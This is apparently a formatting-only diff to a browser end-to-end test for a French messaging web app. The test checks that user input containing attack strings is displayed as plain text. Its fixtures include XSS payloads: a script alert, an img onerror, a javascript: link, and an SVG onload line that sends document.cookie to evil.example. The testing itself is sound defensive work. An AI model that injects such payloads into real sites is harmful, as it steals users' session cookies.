@@ -5,7 +5,8 @@ import { desktop, equal, holds, phone, until } from '../people.mjs'
 
 const mark = Date.now() % 100_000
 const attack = `<img src=x onerror=alert(1)><script>alert(${mark})</script>"'\`{{7*7}}`
-const words = 'javascript:alert(1) <svg/onload=fetch("https://evil.example/?"+document.cookie)> https://solane.example/aide'
+const words =
+  'javascript:alert(1) <svg/onload=fetch("https://evil.example/?"+document.cookie)> https://solane.example/aide'
 
 export async function tell(cast) {
   const sophie = await cast.arrives('Sophie', phone)
@@ -36,7 +37,10 @@ async function textIsText(sophie, karim) {
   equal(await sophie.page.locator('a[href^="javascript" i]').count(), 0, 'links that run')
   await sophie.goes('/')
   await sophie.page.getByRole('searchbox').fill('onerror')
-  await sophie.link(/<img src=x onerror/).first().waitFor()
+  await sophie
+    .link(/<img src=x onerror/)
+    .first()
+    .waitFor()
 
   await karim.link(attack).first().click()
   await karim.heading(attack).waitFor()
@@ -61,7 +65,9 @@ async function tooLong(sophie) {
   await sophie.button('Envoyer').click()
   await until('the field says what is wrong', () =>
     field.evaluate((e) => {
-      const told = (e.getAttribute('aria-describedby') ?? '').split(' ').map((id) => document.getElementById(id)?.textContent)
+      const told = (e.getAttribute('aria-describedby') ?? '')
+        .split(' ')
+        .map((id) => document.getElementById(id)?.textContent)
       return e.getAttribute('aria-invalid') === 'true' && told.some((t) => t)
     }),
   )
@@ -121,5 +127,5 @@ async function serverAway(cast, karim, sophie, reference) {
     await sophie.page.getByRole('article').getByText(text).waitFor()
     equal(await karim.page.getByRole('article').getByText(text).count(), 1, `times that ${text} is there`)
   }
-  holds(await answer.inputValue() === '', 'the sent text is still in the field')
+  holds((await answer.inputValue()) === '', 'the sent text is still in the field')
 }
